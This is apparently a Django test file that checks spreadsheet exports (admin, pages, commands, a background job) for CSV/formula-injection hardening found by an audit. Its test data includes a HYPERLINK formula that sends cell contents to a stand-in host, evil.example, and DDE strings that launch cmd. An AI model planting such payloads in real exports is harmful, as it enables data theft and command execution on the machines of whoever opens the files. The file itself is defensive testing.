"""Hardening found by the outside audit (issue 13): formula text in every export (admin, pages, commands) stays text, and numbers stay numbers."""

import io
import zipfile
from decimal import Decimal

import pytest
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from tests.project.hardening_helpers import admin_client, close, download

# --- formulas in every export ----------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"คลิก")'
EVIL_TEXTS = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1"]


def formula_texts_in_csv(data: bytes) -> tuple[list[str], list[str]]:
    """(cells that a spreadsheet would run, cells neutralised with an apostrophe)."""
    import csv

    from lao_integrity.tabular import _is_formula_like

    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    live = [c for c in cells if _is_formula_like(c)]
    quoted = [c for c in cells if c.startswith("'") and _is_formula_like(c[1:])]
    return live, quoted


def xlsx_cells(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_neutralised(data: bytes, fmt: str, texts: list[str], what: str, *, each: bool = True):
    """No cell of the file runs as a formula; the formula-like `texts` are there, kept as text (each
    of them, or with each=False at least one: a resource need not export every field)."""
    from lao_integrity.tabular import _is_formula_like

    if fmt == "csv":
        live, quoted = formula_texts_in_csv(data)
        assert not live, f"{what}: live formulas {live}"
        present = [t for t in texts if "'" + t.strip() in [q.strip() for q in quoted]]
    else:
        cells = xlsx_cells(data)
        assert all(cell.data_type != "f" for cell in cells), what
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            assert b"<f>" not in b"".join(archive.read(n) for n in archive.namelist() if "worksheets" in n), what
        unprefixed = [c.value for c in cells if isinstance(c.value, str) and _is_formula_like(c.value)
                      and not (c.data_type == "s" and c.quotePrefix)]
        assert not unprefixed, f"{what}: formula-like text without the quote prefix: {unprefixed}"
        present = [t for t in texts if any(c.value == t for c in cells)]
    missing = [t for t in texts if t not in present]
    assert (not missing) if each else present, f"{what}: not found neutralised: {missing}"


def export_admins():
    return [(model, model_admin) for model, model_admin in admin.site._registry.items()
            if hasattr(model_admin, "get_export_formats")]


def poison(model) -> tuple[int, list[str]]:
    """Put formula texts in the text fields of one row (around the services, as a crafted import or
    a hand edit would); returns its pk and the texts."""
    from django.db import models as m

    obj = model._default_manager.order_by("pk").first()
    assert obj is not None, model
    fields = [f for f in model._meta.concrete_fields
              if isinstance(f, (m.CharField, m.TextField)) and not f.choices and not f.unique and not f.primary_key
              and f.name not in {"code", "provinces"} and not isinstance(f, m.FileField)]
    values = {f.name: EVIL_TEXTS[i % len(EVIL_TEXTS)][: f.max_length or None] for i, f in enumerate(fields)}
    model._default_manager.filter(pk=obj.pk).update(**values)
    return obj.pk, [v for v in values.values() if v]


def admin_export(client, model, fmt: str, pk) -> bytes:
    opts = model._meta
    url = reverse(f"admin:{opts.app_label}_{opts.model_name}_export")
    page = client.get(url)
    assert page.status_code == 200, url
    form = page.context["form"]
    data = {name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)}
    data["format"] = next(value for value, label in form.fields["format"].choices if str(label).lower() == fmt)
    if "resource" in form.fields:
        data["resource"] = form.fields["resource"].choices[0][0]
    response = client.post(url, data)
    assert response.status_code == 200 and "attachment" in response.get("Content-Disposition", ""), (
        url, response.status_code)
    assert response["Content-Disposition"].rstrip('"').endswith(f".{fmt}"), response["Content-Disposition"]
    return response.content


def test_the_admin_exports_csv_and_xlsx_only(seeded):
    for model, model_admin in export_admins():
        assert [f().get_extension() for f in model_admin.get_export_formats()] == ["csv", "xlsx"], model


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_admin_export_keeps_formula_text_as_text(seeded, fmt):
    client = admin_client()
    admins = export_admins()
    assert len(admins) >= 8
    # Every model's rows first: an export also shows related rows' text (a membership's organisation).
    poisoned = {model: poison(model) for model, _ in admins}
    every_text = sorted({text for _, texts in poisoned.values() for text in texts})
    for model, _ in admins:
        pk, texts = poisoned[model]
        texts = texts or every_text
        data = admin_export(client, model, fmt, pk)
        if fmt == "csv":
            assert data.startswith("\ufeff".encode()), model  # Excel shows Thai only with the BOM
        assert_neutralised(data, fmt, texts, f"admin export of {model.__name__} ({fmt})", each=False)


def test_admin_formats_keep_numbers_negative_ones_included_as_numbers(seeded):
    import tablib

    from lao_integrity import export_formats
    from plans.models import Project

    dataset = tablib.Dataset(headers=["ชื่อ", "งบ", "จำนวน", "ข้อความ"], title="t")
    dataset.append([EVIL, Decimal("-1234.50"), -5, "-5"])
    cells = xlsx_cells(export_formats.XLSX().export_data(dataset))
    assert [c.value for c in cells[4:]] == [EVIL, -1234.5, -5, "-5"]
    assert [c.data_type for c in cells[4:]] == ["s", "n", "n", "s"] and cells[4].quotePrefix
    assert not any(c.quotePrefix for c in cells[5:])
    import csv

    rows = list(csv.reader(io.StringIO(export_formats.CSV().export_data(dataset).lstrip("\ufeff"))))
    assert rows[1] == ["'" + EVIL, "-1,234.50", "-5", "-5"]  # amounts as the portal's csv writes them
    # Through the admin: the budget is a number cell in xlsx (the resource gives native values there).
    project = seeded.plan.projects.order_by("sequence").first()
    Project.objects.filter(pk=project.pk).update(budget=Decimal("1234.50"), name="-5")
    client = admin_client()
    cells = xlsx_cells(admin_export(client, Project, "xlsx", project.pk))
    assert any(c.value == 1234.5 and c.data_type == "n" for c in cells)
    assert any(c.value == "-5" and not c.quotePrefix for c in cells)  # a name that reads as a number: untouched
    live, _ = formula_texts_in_csv(admin_export(client, Project, "csv", project.pk))
    assert not live and "'-5" not in admin_export(client, Project, "csv", project.pk).decode("utf-8-sig")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_what_the_admin_exported_its_import_reads_back_as_typed(seeded, fmt):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from lao_integrity.orgs.models import Organisation

    Organisation.objects.filter(pk=seeded.org.pk).update(name=EVIL)
    client = admin_client()
    exported = admin_export(client, Organisation, fmt, seeded.org.pk)
    Organisation.objects.filter(pk=seeded.org.pk).update(name="ชื่อที่จะถูกแทน")
    url = reverse("admin:orgs_organisation_import")
    assert client.get(url).status_code == 200
    # One step: the admin's import is the import_orgs service (all or nothing), no preview to confirm.
    done = client.post(url, {"file": SimpleUploadedFile(f"orgs.{fmt}", exported)})
    assert done.status_code == 302, done.content.decode()[:2000]
    name = Organisation.objects.get(pk=seeded.org.pk).name
    # (the organisation import puts the type's words before a short name)
    assert name.endswith(EVIL) and "'" + EVIL not in name, name


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_page_and_command_exports_keep_formula_text_as_text(seeded, fmt, tmp_path,
                                                             django_capture_on_commit_callbacks):
    from agreements.performance.models import AgreementIndicator, AgreementStatus, PerformanceAgreement
    from ita.models import Result
    from lao_integrity.orgs.models import Organisation
    from plans.models import Project

    project = seeded.plan.projects.order_by("sequence").first()
    Project.objects.filter(pk=project.pk).update(name=EVIL, remark="+cmd|' /C calc'!A0")
    Organisation.objects.filter(pk=seeded.org.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    agreement = PerformanceAgreement.objects.filter(status=AgreementStatus.DRAFT).order_by("pk").first()
    AgreementIndicator.objects.filter(pk=agreement.indicators.order_by("pk").first().pk).update(name="-2+3+cmd|' /C calc'!A0")
    client = admin_client()

    def body(response):
        data = b"".join(response.streaming_content) if response.streaming else response.content
        close(response)
        return data

    plan_page = body(client.get(reverse("plans:export", kwargs={"pk": seeded.plan.pk, "fmt": fmt})))
    assert_neutralised(plan_page, fmt, [EVIL, "+cmd|' /C calc'!A0"], "plan export page")
    indicators = body(client.get(reverse("agreements:indicator_export", kwargs={"pk": agreement.pk, "fmt": fmt})))
    assert_neutralised(indicators, fmt, ["-2+3+cmd|' /C calc'!A0"], "indicator export page")
    ita_page = body(client.get(reverse("ita:export"), {"fiscal_year": 2566, "format": fmt}))
    assert_neutralised(ita_page, fmt, ["@SUM(1+1)*cmd|' /C calc'!A0"], "ITA export page")
    # the ITA admin's export action
    results = Result.objects.filter(fiscal_year=2566).values_list("pk", flat=True)
    action = client.post(reverse("admin:ita_result_changelist") + "?fiscal_year=2566",
                         {"action": f"export_{fmt}", "_selected_action": list(results)})
    assert_neutralised(action.content, fmt, ["@SUM(1+1)*cmd|' /C calc'!A0"], "ITA admin action")
    # the commands
    call_command("export_plan", "--org", seeded.org.code, "--fiscal-year", "2569", "-o", str(tmp_path / f"p.{fmt}"),
                 stdout=io.StringIO())
    assert_neutralised((tmp_path / f"p.{fmt}").read_bytes(), fmt, [EVIL], "export_plan")
    call_command("export_ita", "--fiscal-year", "2566", "-o", str(tmp_path / f"i.{fmt}"), stdout=io.StringIO())
    assert_neutralised((tmp_path / f"i.{fmt}").read_bytes(), fmt, ["@SUM(1+1)*cmd|' /C calc'!A0"], "export_ita")
    # the background job's file of every organisation
    from ita.results.jobs import start_export

    admin_user = get_user_model().objects.get(username="admin")
    with django_capture_on_commit_callbacks(execute=True):
        job = start_export(user=admin_user, fiscal_year=2566, fmt=fmt)
    status, data = download(admin_user, job)
    assert status == 200
    assert_neutralised(data, fmt, ["@SUM(1+1)*cmd|' /C calc'!A0"], "ITA export job")
